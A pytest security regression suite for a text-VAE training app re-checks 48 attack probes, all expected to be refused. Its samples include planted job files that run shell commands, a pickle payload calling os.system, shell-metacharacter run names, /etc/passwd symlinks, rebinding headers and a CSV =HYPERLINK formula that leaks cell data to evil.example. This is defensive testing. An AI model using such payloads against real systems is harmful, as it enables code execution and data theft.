"""The 48 probes of issue 43 ("Safe to share"), re-run: every bad input and fault tried there, each with the
clear outcome it must have now. A probe passes when the outcome is a one-line refusal naming what is wrong (exit
status 2 for the training CLI), or a run trained as asked, and nothing was lost or silently accepted; a raw
traceback fails it (the CLI runs in this process, so an uncaught exception reaches pytest).

The probes by finding (the issue's numbering): 1 job files (P01–P04), 2 DNS rebinding (P05–P11), 3 judges taking
each other's place (P12–P16), 4 blindness through the explorer (P17–P18), 5 one long line (P19–P21), 6 history
lost on a kill (P22–P23), 7 a folder killed before its first checkpoint (P24–P25), 8 silent or raw failures
(P26–P43), 9 CSV and markdown injection (P44–P45); and what already held, re-checked (P46–P48)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from explorer import gate, jobs, training
from explorer.survey import repo
from explorer.survey.db import connect
from explorer.survey.design import Generated, ItemDraft, SurveyDesign, SystemDraft
from explorer.survey.errors import JoinRefused, JudgeNotFound, NameTaken
from textvae_core import train as train_cli
from textvae_core.checkpoint import CheckpointError, load_run
from textvae_core.config import RunConfig
from textvae_core.corpus import CorpusError
from textvae_core.paths import ROOT
from textvae_core.rundir import CONFIG, METRICS, TRAIN_LOCK, VOCAB, WEIGHTS, read_metrics

PROBES: dict[str, tuple[str, Callable[..., None]]] = {}  # id → (what is tried, the probe)


def probe(pid: str, what: str) -> Callable[[Callable[..., None]], Callable[..., None]]:
    def register(fn: Callable[..., None]) -> Callable[..., None]:
        PROBES[pid] = (what, fn)
        return fn

    return register


# ------------------------------------------------------------------------------------------------ helpers


def base_args(corpus: Path, out: Path, steps: int = 2) -> list[str]:
    return [f"--data.train={corpus / 'train.txt'}", f"--data.valid={corpus / 'valid.txt'}",
            f"--data.test={corpus / 'test.txt'}", "--size=tiny", "--batch_size=32", f"--max_steps={steps}",
            "--num_threads=1", "--progress=false", f"--out={out}"]  # fmt: skip


def cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """The training CLI's exit status and its stderr lines (a raw exception is not caught: it fails the probe)."""
    capsys.readouterr()
    code = train_cli.main(argv)
    return code, [ln for ln in capsys.readouterr().err.splitlines() if ln.strip()]


def refused(argv: list[str], capsys: pytest.CaptureFixture[str], says: str) -> None:
    """Exit status 2 with one line, starting error:, that says ``says``."""
    code, err = cli(argv, capsys)
    assert code == 2 and len(err) == 1 and err[0].startswith("error: ") and says in err[0], (code, err)


def trained_copy(ctx: dict, name: str) -> Path:
    """A copy of the probes' tiny trained run (2 steps, a checkpoint, a vocabulary)."""
    dst = ctx["tmp"] / name
    shutil.copytree(ctx["run"], dst)
    return dst


# ------------------------------------------------------------------------------------------------ 1. job files


def _planted(marker: Path, root: Path, **extra: object) -> str:
    job = {"state": "queued", "name": "x", "root": str(root), "queued_at": 0, "evaluate": True,
           "command": ["sh", "-c", f"touch {marker}"], "after": [["sh", "-c", f"touch {marker}"]], **extra}  # fmt: skip
    return json.dumps(job)


@probe("P01", "a queued job.json naming a command, dropped into the training folder")
def p01(ctx: dict, capsys) -> None:
    root, marker = ctx["tmp"] / "train1", ctx["tmp"] / "pwned1"
    (root / "dropped").mkdir(parents=True)
    (root / "dropped" / "job.json").write_text(_planted(marker, root))
    assert jobs.pump(root) == [] and jobs.list_jobs(root) == []
    time.sleep(0.5)
    assert not marker.exists()


@probe("P02", "a run folder copied in with a queued job.json and 'after' commands")
def p02(ctx: dict, capsys) -> None:
    root, marker = ctx["tmp"] / "train2", ctx["tmp"] / "pwned2"
    shutil.copytree(ctx["run"], root / "copied")
    (root / "copied" / "job.json").write_text(_planted(marker, root))
    assert jobs.pump(root) == [] and jobs.status(root / "copied") is None and not marker.exists()


@probe("P03", "a job.json claiming 'running' with the app's own pid, then Stop on that run")
def p03(ctx: dict, capsys) -> None:
    root = ctx["tmp"] / "train3"
    (root / "r").mkdir(parents=True)
    (root / "r" / "job.json").write_text(json.dumps({"state": "running", "pid": os.getpid(), "queued_at": 0}))
    with pytest.raises(jobs.JobError, match="has no job"):
        jobs.stop(root / "r")  # this process is still alive: nothing was signalled


@probe("P04", "a queue row whose action is not one of the fixed set")
def p04(ctx: dict, capsys) -> None:
    row = jobs.Job(id=1, root=str(ctx["tmp"]), name="x", action="shell", config={}, eval_options={},
                   map_methods="pca")  # fmt: skip
    with pytest.raises(jobs.JobError, match="unknown action"):
        jobs.commands(row)
    row.action = "train"
    train, after = jobs.commands(row)
    assert train[1:] == ["-m", "textvae_core.train", "--config", str(jobs.config_file(1))]
    assert [cmd[2] for cmd in after] == ["textvae_core.evaluate", "explorer.latent_map"]


# ------------------------------------------------------------------------------------------------ 2. rebinding


@probe("P05", "Training page on a 127.0.0.1 server requested as Host: evil.example:8622, no secret")
def p05(ctx: dict, capsys) -> None:
    mode, note = training.training_access("127.0.0.1", False, {"Host": "evil.example:8622"})
    assert mode == "locked" and "evil.example" in note


@probe("P06", "Host: localhost but Origin: http://evil.example:8622 (the websocket the probe opened)")
def p06(ctx: dict, capsys) -> None:
    headers = {"Host": "localhost:8622", "Origin": "http://evil.example:8622"}
    assert training.training_access("127.0.0.1", False, headers)[0] == "locked"
    assert gate.foreign_request(headers, "127.0.0.1") is not None


@probe("P07", "a local-looking request that came through a reverse proxy (X-Forwarded-For)")
def p07(ctx: dict, capsys) -> None:
    headers = {"Host": "127.0.0.1:8501", "X-Forwarded-For": "203.0.113.9"}
    assert training.training_access("127.0.0.1", False, headers)[0] == "locked"


@probe("P08", "any page requested by a foreign name: Streamlit's allowedHosts and every page's own check")
def p08(ctx: dict, capsys) -> None:
    import tomllib

    from streamlit import config
    from streamlit.web.server.starlette.starlette_websocket import is_host_allowed

    hosts = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())["server"]["allowedHosts"]
    before = config.get_option("server.allowedHosts")
    config.set_option("server.allowedHosts", hosts)
    try:
        assert not is_host_allowed("evil.example:8622") and is_host_allowed("localhost:8501")
    finally:
        config.set_option("server.allowedHosts", before)
    assert gate.foreign_request({"Host": "evil.example:8622"}, "127.0.0.1", hosts) is not None
    assert gate.foreign_request({"Host": "127.0.0.1:8501"}, "127.0.0.1", hosts) is None


@probe("P09", "Streamlit's XSRF and CORS protection in .streamlit/config.toml")
def p09(ctx: dict, capsys) -> None:
    import tomllib

    server = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())["server"]
    assert server["enableXsrfProtection"] is True and server["enableCORS"] is True


@probe("P10", "the corpus folder field given /etc (any folder the app can read)")
def p10(ctx: dict, capsys) -> None:
    with pytest.raises(CorpusError, match="not a corpus folder this page may read"):
        training.folder_corpus("/etc", training.corpus_roots(ctx["tmp"] / "train10"))


@probe("P11", "a corpus folder inside the allowed ones whose train.txt links to /etc/passwd")
def p11(ctx: dict, capsys) -> None:
    folder = ctx["tmp"] / "corpora11"
    folder.mkdir()
    (folder / "train.txt").symlink_to("/etc/passwd")
    with pytest.raises(CorpusError, match="links to a file outside"):
        training.folder_corpus(str(folder), [folder.resolve()])


# ------------------------------------------------------------------------------------------------ 3. judges


def _survey(ctx: dict, runs: list[str] | None = None, name: str = "s") -> tuple[object, object]:
    store = connect(f"sqlite:///{ctx['tmp'] / f'{name}.sqlite3'}")
    runs = runs or ["/runs/a", "/runs/b"]
    systems = [SystemDraft(Path(r).name, r, {}) for r in runs]
    items = [ItemDraft(0, f"out a {k}", 4, f"input {k}", 1, f"out b {k}") for k in range(8)]
    design = SurveyDesign(kind="pairwise", title="A study", runs=runs, items_per_judge=4)
    survey = repo.create_survey(store, design, Generated(systems, items, {}))
    return store, repo.set_status(store, survey.id, "open")


@probe("P12", "joining with another judge's exact name")
def p12(ctx: dict, capsys) -> None:
    store, survey = _survey(ctx, name="s12")
    repo.join(store, survey.token, "Grace Hopper")
    with pytest.raises(NameTaken):
        repo.join(store, survey.token, "Grace Hopper")


@probe("P13", "joining with another judge's name in another case and spacing")
def p13(ctx: dict, capsys) -> None:
    store, survey = _survey(ctx, name="s13")
    first = repo.join(store, survey.token, "Grace Hopper")
    for impostor in ("grace hopper", "  GRACE   Hopper "):
        with pytest.raises(NameTaken):
            repo.join(store, survey.token, impostor)
    assert repo.resume(store, survey.token, first.token).name == "Grace Hopper"  # the code alone brings her back


@probe("P14", "one client joining anonymously again and again (25 answers under 5 identities)")
def p14(ctx: dict, capsys) -> None:
    store, survey = _survey(ctx, name="s14")
    for _ in range(repo.JOINS_PER_CLIENT):
        repo.join(store, survey.token, client="same-client")
    with pytest.raises(JoinRefused):
        repo.join(store, survey.token, client="same-client")


@probe("P15", "more joins than a survey takes")
def p15(ctx: dict, capsys) -> None:
    store, survey = _survey(ctx, name="s15")
    os.environ[repo.MAX_JUDGES_ENV] = "2"
    try:
        repo.join(store, survey.token)
        repo.join(store, survey.token)
        with pytest.raises(JoinRefused, match="all the judges"):
            repo.join(store, survey.token)
    finally:
        del os.environ[repo.MAX_JUDGES_ENV]


@probe("P16", "a judge code of one survey used on another")
def p16(ctx: dict, capsys) -> None:
    store, a = _survey(ctx, name="s16")
    b = repo.set_status(store, repo.create_survey(store, SurveyDesign(kind="pairwise", title="B", runs=["/x", "/y"]),
        Generated([SystemDraft("x", "/x", {}), SystemDraft("y", "/y", {})], [ItemDraft(0, "p", 1, "q", 1, "r")],
                  {})).id, "open")  # fmt: skip
    ticket = repo.join(store, a.token)
    with pytest.raises(JudgeNotFound):
        repo.next_item(store, b.token, ticket.token)


# ------------------------------------------------------------------------------------------------ 4. blindness


def _runs_page(ctx: dict, db: str) -> list[str]:
    from streamlit.testing.v1 import AppTest

    os.environ.update(TEXTVAE_RUNS=str(ctx["run_folder"]), TEXTVAE_SURVEY_DB=db)
    try:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
        assert not at.exception, [e.value for e in at.exception]
        return [str(v) for v in at.dataframe[0].value.to_numpy().ravel()] if at.dataframe else []
    finally:
        del os.environ["TEXTVAE_RUNS"], os.environ["TEXTVAE_SURVEY_DB"]


@probe("P17", "a judge opens the explorer pages while the survey on two runs is open")
def p17(ctx: dict, capsys) -> None:
    runs = [str(ctx["run_folder"] / "tiny-bc3"), str(ctx["run_folder"] / "tiny-bc10")]
    _survey(ctx, runs, name="s17")
    cells = _runs_page(ctx, f"sqlite:///{ctx['tmp'] / 's17.sqlite3'}")
    assert "tiny-bc3" not in cells and "tiny-bc10" not in cells


@probe("P18", "the same pages once the survey is closed")
def p18(ctx: dict, capsys) -> None:
    runs = [str(ctx["run_folder"] / "tiny-bc3"), str(ctx["run_folder"] / "tiny-bc10")]
    store, survey = _survey(ctx, runs, name="s18")
    repo.set_status(store, survey.id, "closed")
    cells = _runs_page(ctx, f"sqlite:///{ctx['tmp'] / 's18.sqlite3'}")
    assert "tiny-bc3" in cells and "tiny-bc10" in cells


# ------------------------------------------------------------------------------------------------ 5. long lines


@probe("P19", "a training corpus with one 5 MB line")
def p19(ctx: dict, capsys) -> None:
    corpus = ctx["tmp"] / "long19"
    shutil.copytree(ctx["corpus"], corpus)
    with open(corpus / "train.txt", "a") as f:
        f.write("w " * 2_500_000 + "\n")
    started = time.monotonic()
    refused(base_args(corpus, ctx["tmp"] / "out19"), capsys, "line 601 has 2,500,000 words")
    assert time.monotonic() - started < 30 and not (ctx["tmp"] / "out19" / WEIGHTS).exists()


@probe("P20", "an upload with one 5 MB line")
def p20(ctx: dict, capsys) -> None:
    data = (ctx["corpus"] / "train.txt").read_bytes() + b"w " * 2_500_000
    with pytest.raises(CorpusError, match="a sentence may have at most 500"):
        training.check_upload(data, "long.txt")


@probe("P21", "the same long line with data.max_len set: left out, and the run trains")
def p21(ctx: dict, capsys) -> None:
    corpus = ctx["tmp"] / "long21"
    shutil.copytree(ctx["corpus"], corpus)
    with open(corpus / "train.txt", "a") as f:
        f.write("w " * 2_500_000 + "\n")
    code, _ = cli([*base_args(corpus, ctx["tmp"] / "out21"), "--data.max_len=40"], capsys)
    assert code == 0 and load_run(ctx["tmp"] / "out21").step == 2


# ------------------------------------------------------------------------------------------------ 6. atomic


FAULT = """
import resource, signal, sys
from textvae_core.rundir import MetricsLog
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG, as a full disk would
resource.setrlimit(resource.RLIMIT_FSIZE, (20000, 20000))
MetricsLog(sys.argv[1], keep_until_step=int(sys.argv[2]))
"""


def _history(path: Path, n: int = 2000) -> None:
    path.write_text("".join(json.dumps({"step": s, "split": "train", "loss": 1.0 / s}) + "\n" for s in range(1, n + 1)))


@probe("P22", "the metrics.jsonl rewrite of a resume interrupted halfway (the write fails mid-file)")
def p22(ctx: dict, capsys) -> None:
    path = ctx["tmp"] / "m22" / METRICS
    path.parent.mkdir()
    _history(path)
    before = path.read_bytes()
    done = subprocess.run([sys.executable, "-c", FAULT, str(path), "1500"], cwd=ROOT, capture_output=True)
    assert done.returncode != 0 and path.read_bytes() == before  # the old history whole, not a cut file


@probe("P23", "a resume after that failed rewrite keeps every step up to its checkpoint")
def p23(ctx: dict, capsys) -> None:
    from textvae_core.rundir import MetricsLog

    path = ctx["tmp"] / "m23" / METRICS
    path.parent.mkdir()
    _history(path)
    subprocess.run([sys.executable, "-c", FAULT, str(path), "1500"], cwd=ROOT, capture_output=True)
    MetricsLog(path, keep_until_step=1500).close()
    assert [r["step"] for r in read_metrics(path.parent)] == list(range(1, 1501))


# ------------------------------------------------------------------------------------------------ 7. no weights yet


def _unstarted(ctx: dict, name: str) -> Path:
    """A run folder as a kill before the first checkpoint leaves it: config.json and vocab.json, no weights."""
    run = trained_copy(ctx, name)
    for f in run.iterdir():
        if f.name not in (CONFIG, VOCAB, METRICS):
            f.unlink()
    return run


@probe("P24", "--resume of a folder killed before its first checkpoint")
def p24(ctx: dict, capsys) -> None:
    run = _unstarted(ctx, "p24")
    code, err = cli(["--resume", str(run), "--num_threads=1"], capsys)
    assert code == 0 and any("training it afresh" in e for e in err) and load_run(run).step == 2


@probe("P25", "a new run into that folder")
def p25(ctx: dict, capsys) -> None:
    run = _unstarted(ctx, "p25")
    refused(base_args(ctx["corpus"], run), capsys, f"--resume {run} starts it afresh")


# ------------------------------------------------------------------------------------------------ 8. silent or raw


@probe("P26", "resume with one token of vocab.json changed (same size)")
def p26(ctx: dict, capsys) -> None:
    run = trained_copy(ctx, "p26")
    vocab = json.loads((run / VOCAB).read_text())
    vocab["tokens"][10] = "hijacked"
    (run / VOCAB).write_text(json.dumps(vocab))
    refused(["--resume", str(run), "--max_steps=3"], capsys, "vocab.json is not the vocabulary")


@probe("P27", "loading a run with one token of vocab.json changed")
def p27(ctx: dict, capsys) -> None:
    run = trained_copy(ctx, "p27")
    vocab = json.loads((run / VOCAB).read_text())
    vocab["tokens"][10] = "hijacked"
    (run / VOCAB).write_text(json.dumps(vocab))
    with pytest.raises(CheckpointError, match="checksum differs"):
        load_run(run)


@probe("P28", "resume with model.z_dim changed in config.json")
def p28(ctx: dict, capsys) -> None:
    run = trained_copy(ctx, "p28")
    cfg = RunConfig.load(run / CONFIG)
    cfg.model.z_dim += 3
    cfg.save(run / CONFIG)
    refused(["--resume", str(run), "--max_steps=3"], capsys, "do not fit the architecture in config.json")


@probe("P29", "resume with a vocabulary of another size")
def p29(ctx: dict, capsys) -> None:
    run = trained_copy(ctx, "p29")
    vocab = json.loads((run / VOCAB).read_text())
    vocab["tokens"].append("extra")
    (run / VOCAB).write_text(json.dumps(vocab))
    refused(["--resume", str(run), "--max_steps=3"], capsys, "belongs to another run")


BAD_OPTIONS = {  # the option values of finding 8: each refused before any work, naming the option
    "P30": ("--lr=nan", "--train.lr=nan"),
    "P31": ("--lr=-1", "--train.lr=-1"),
    "P32": ("--batch_size=0", "--train.batch_size=0"),
    "P33": ("--model.dropout=1.5", "--model.dropout=1.5"),
    "P35": ("--epochs=-1", "--train.epochs=-1"),
    "P36": ("--max_steps=-5", "--train.max_steps=-5"),
    "P37": ("--z_dim=0", "--model.z_dim=0"),
    "P38": ("--word_dropout=2", "--train.word_dropout=2"),
    "P39": ("--lr=inf", "--train.lr=inf"),
}


def _bad_option(pid: str) -> Callable[..., None]:
    option, says = BAD_OPTIONS[pid]

    def run(ctx: dict, capsys) -> None:
        out = ctx["tmp"] / f"out-{pid}"
        refused([*base_args(ctx["corpus"], out), option], capsys, says)
        assert not out.exists()  # before any work: no folder, no vocabulary, no weights

    return run


for _pid, (_opt, _) in BAD_OPTIONS.items():
    probe(_pid, f"training with {_opt}")(_bad_option(_pid))


@probe("P34", "--out pointing at a file")
def p34(ctx: dict, capsys) -> None:
    target = ctx["tmp"] / "a-file.txt"
    target.write_text("keep me\n")
    refused(base_args(ctx["corpus"], target), capsys, "is a file, not a folder")
    assert target.read_text() == "keep me\n"


@probe("P40", "a loss that turns non-finite before any checkpoint (lr=1e30, no clipping)")
def p40(ctx: dict, capsys) -> None:
    out = ctx["tmp"] / "out40"
    code, err = cli([*base_args(ctx["corpus"], out, 5), "--lr=1e30", "--grad_clip=0", "--objective=vae"], capsys)
    assert code == 3 and len(err) == 1 and "No checkpoint was written yet" in err[0] and "is kept" not in err[0]


@probe("P41", "an upload starting with a UTF-8 byte-order mark")
def p41(ctx: dict, capsys) -> None:
    data = b"\xef\xbb\xbf" + (ctx["corpus"] / "train.txt").read_bytes()
    upload = training.check_upload(data, "bom.txt")
    paths, _ = training.save_upload(ctx["tmp"] / "train41", upload)
    text = "".join(Path(p).read_text(encoding="utf-8") for p in paths.values())
    assert "\ufeff" not in text and len(text.split("\n")) > 500


@probe("P42", "a run name with a trailing newline")
def p42(ctx: dict, capsys) -> None:
    with pytest.raises(jobs.JobError, match="run name"):
        jobs.submit(ctx["tmp"] / "train42", "run\n", RunConfig())


@probe("P43", "run names with ../, an absolute path, shell metacharacters and NUL")
def p43(ctx: dict, capsys) -> None:
    for name in ("../up", "/abs", "a;touch x", "$(id)", "nul\x00"):
        with pytest.raises(jobs.JobError, match="run name"):
            jobs.submit(ctx["tmp"] / "train43", name, RunConfig())
    assert not (ctx["tmp"] / "train43").exists()


# ------------------------------------------------------------------------------------------------ 9. injection


@probe("P44", "a judge named =HYPERLINK(…) in the survey's CSV export")
def p44(ctx: dict, capsys) -> None:
    from explorer.survey import stats

    store, survey = _survey(ctx, name="s44")
    judge = repo.join(store, survey.token, '=HYPERLINK("http://evil.example/?"&A1,"x")')
    item = repo.next_item(store, survey.token, judge.token)
    repo.submit(store, survey.token, judge.token, item.token, "left")
    csv = stats.to_csv(repo.answers_frame(store, survey.id)).decode()
    assert "'=HYPERLINK" in csv and ",=HYPERLINK" not in csv and '"=HYPERLINK' not in csv


@probe("P45", "an unknown word typed as a markdown image on a model page")
def p45(ctx: dict, capsys) -> None:
    from streamlit.testing.v1 import AppTest

    os.environ["TEXTVAE_RUNS"] = str(ctx["run_folder"])
    try:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
        at.switch_page("pages/reconstructions.py").run()
        at.text_area[0].set_value("the cat ![x](http://evil.example/x.png)").run()
    finally:
        del os.environ["TEXTVAE_RUNS"]
    assert not at.exception, [e.value for e in at.exception]
    said = " ".join(w.value for w in at.warning)
    assert "\\!\\[x\\]\\(http" in said and "![x](http" not in said


# ------------------------------------------------------------------------------------------------ what held


@probe("P46", "corrupt, truncated and tampered weights")
def p46(ctx: dict, capsys) -> None:
    for how in ("corrupt", "truncated", "tampered"):
        run = trained_copy(ctx, f"p46-{how}")
        blob = bytearray((run / WEIGHTS).read_bytes())
        if how == "corrupt":
            blob[-5] ^= 0xFF
        elif how == "truncated":
            blob = blob[: len(blob) // 2]
        else:
            blob = blob.replace(b'"embedding.weight"', b'"embedding.wxight"', 1)  # a tensor renamed in the header
        (run / WEIGHTS).write_bytes(bytes(blob))
        with pytest.raises(CheckpointError):
            load_run(run)


@probe("P47", "a pickled resume-*.pt whose payload calls os.system")
def p47(ctx: dict, capsys) -> None:
    import pickle

    run, marker = trained_copy(ctx, "p47"), ctx["tmp"] / "pwned47"

    class Payload:
        def __reduce__(self) -> tuple:
            return os.system, (f"touch {marker}",)

    (resume,) = run.glob("resume-*.pt")
    resume.write_bytes(pickle.dumps({"state": Payload()}))
    refused(["--resume", str(run), "--max_steps=3"], capsys, "unreadable resume state")
    assert not marker.exists()


@probe("P48", "two trainings of one folder at once")
def p48(ctx: dict, capsys) -> None:
    run = trained_copy(ctx, "p48")
    holder = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(f"""
            import time
            from filelock import FileLock
            lock = FileLock({str(run / TRAIN_LOCK)!r})
            lock.acquire()
            print("held", flush=True)
            time.sleep(60)
        """)], stdout=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert holder.stdout.readline().strip() == "held"
        refused(["--resume", str(run), "--max_steps=3"], capsys, "is being trained by another process")
    finally:
        holder.kill()
        holder.wait()


# ------------------------------------------------------------------------------------------------ the run


@pytest.fixture(scope="module")
def ctx(corpus_dir: Path, run_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> dict:
    tmp = tmp_path_factory.mktemp("probes")
    run = tmp / "trained"
    assert train_cli.main(base_args(corpus_dir, run)) == 0
    return {"tmp": tmp, "corpus": corpus_dir, "run": run, "run_folder": run_folder}


def test_there_are_48_probes() -> None:
    assert sorted(PROBES) == [f"P{i:02d}" for i in range(1, 49)]


@pytest.mark.parametrize("pid", sorted(PROBES))
def test_probe(pid: str, ctx: dict, capsys: pytest.CaptureFixture[str]) -> None:
    PROBES[pid][1](ctx, capsys)
